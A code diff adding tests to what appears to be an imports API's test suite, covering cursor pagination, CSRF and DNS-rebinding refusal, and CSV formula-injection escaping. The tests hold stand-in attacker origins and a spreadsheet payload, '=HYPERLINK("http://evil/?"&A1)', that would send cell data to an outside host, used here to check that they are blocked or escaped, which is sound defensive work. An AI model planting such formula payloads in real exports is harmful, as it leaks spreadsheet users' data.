@@ -170,6 +170,11 @@ test('GET /imports pages newest first with an opaque cursor; limit is 1..100, de
     `INSERT INTO imports (pipeline, file_name, status, created_at)
      SELECT 'leads', 'page-' || g, 'completed', now() - g * interval '1 minute' FROM generate_series(1, 45) g`,
   );
+  // Five created within one millisecond (concurrent uploads): the cursor keeps microseconds.
+  await db.pool.query(
+    `INSERT INTO imports (pipeline, file_name, status, created_at)
+     SELECT 'leads', 'same-ms-' || g, 'completed', '2026-01-01 00:00:00.123000+00'::timestamptz + g * interval '1 microsecond' FROM generate_series(1, 5) g`,
+  );
   const { rows } = await db.pool.query<{ id: string }>('SELECT id FROM imports ORDER BY created_at DESC, id DESC');
   const first = await app.inject({ method: 'GET', url: '/imports' });
   assert.equal(first.statusCode, 200);
@@ -195,6 +200,33 @@ test('GET /imports pages newest first with an opaque cursor; limit is 1..100, de
   }
   assert.equal((await app.inject({ method: 'GET', url: '/imports?limit=100' })).json().imports.length, 100 > rows.length ? rows.length : 100);
   assertError(await app.inject({ method: 'GET', url: '/imports?cursor=garbage' }), 400, 'invalid_input', /cursor/);
+  // A time Date.parse accepts and Postgres does not: 400, not a database error.
+  const odd = Buffer.from(`Tuesday 5|${randomUUID()}`).toString('base64url');
+  assertError(await app.inject({ method: 'GET', url: `/imports?cursor=${odd}` }), 400, 'invalid_input', /cursor/);
+});
+
+test('writes from a page of another site are refused (CSRF); without a token only loopback Host names are served', async () => {
+  const raw = (headers: Record<string, string>) =>
+    app.inject({ method: 'POST', url: '/imports?pipeline=leads&file_name=x.csv', headers: { 'content-type': 'text/plain', ...headers }, payload: leadsCsv(2) });
+  const before = await importCount();
+  const crossSite: Array<Record<string, string>> = [
+    { origin: 'http://evil.example' },
+    { origin: 'http://127.0.0.1:18300' }, // another port: another origin
+    { origin: 'null' },
+    { 'sec-fetch-site': 'cross-site' },
+    { 'sec-fetch-site': 'same-site' },
+  ];
+  for (const headers of crossSite) assertError(await raw(headers), 403, 'forbidden', /another site/);
+  assertError(await app.inject({ method: 'POST', url: `/imports/${randomUUID()}/cancel`, headers: { 'sec-fetch-site': 'cross-site' } }), 403, 'forbidden');
+  assert.equal(await importCount(), before, 'nothing created');
+  // The dashboard's own requests (same origin) and clients that are not browsers pass.
+  assert.equal((await raw({ origin: 'http://localhost:80', 'sec-fetch-site': 'same-origin' })).statusCode, 202);
+  assert.equal((await raw({})).statusCode, 202);
+  // DNS rebinding: a name that is not loopback is refused, for reads too.
+  assertError(await app.inject({ method: 'GET', url: '/imports', headers: { host: 'attacker.example:8080' } }), 403, 'forbidden', /loopback names only/);
+  for (const host of ['127.0.0.1:8080', 'localhost', '[::1]:8080']) {
+    assert.equal((await app.inject({ method: 'GET', url: '/imports', headers: { host } })).statusCode, 200, host);
+  }
 });
 
 test('GET /imports/:id/rejects streams every reject in line order as CSV or NDJSON', async () => {
@@ -229,6 +261,21 @@ test('GET /imports/:id/rejects streams every reject in line order as CSV or NDJS
 
   const all = await app.inject({ method: 'GET', url: `/imports/${id}/rejects?format=ndjson` });
   assert.equal(all.body.trim().split('\n').length, 12_001);
+  // Cells a spreadsheet would run as formulas get a ' in front in CSV; NDJSON keeps the text.
+  const { rows: f } = await db.pool.query<{ id: string }>(`INSERT INTO imports (pipeline, status) VALUES ('leads', 'completed') RETURNING id`);
+  await db.pool.query(
+    `INSERT INTO import_rejects (import_id, line, field, reason, raw) VALUES
+       ($1, 2, NULL, 'email: not an email: "=1+1"', '=HYPERLINK("http://evil/?"&A1),Bob'), ($1, 3, NULL, '-x', '+1'), ($1, 4, NULL, 'ok', '@SUM(A1)')`,
+    [f[0]!.id],
+  );
+  const formulas = (await app.inject({ method: 'GET', url: `/imports/${f[0]!.id}/rejects` })).body.split('\r\n');
+  assert.deepEqual(formulas.slice(1, 4), [
+    `2,,"email: not an email: ""=1+1""","'=HYPERLINK(""http://evil/?""&A1),Bob"`,
+    `3,,'-x,'+1`,
+    `4,,ok,'@SUM(A1)`,
+  ]);
+  const exact = (await app.inject({ method: 'GET', url: `/imports/${f[0]!.id}/rejects?format=ndjson` })).body.trim().split('\n');
+  assert.equal(JSON.parse(exact[0]!).raw, '=HYPERLINK("http://evil/?"&A1),Bob');
   assertError(await app.inject({ method: 'GET', url: `/imports/${id}/rejects?format=xml` }), 400, 'invalid_input', /format/);
   assertError(await app.inject({ method: 'GET', url: `/imports/${id}/rejects?limit=0` }), 400, 'invalid_input', /limit/);
 });
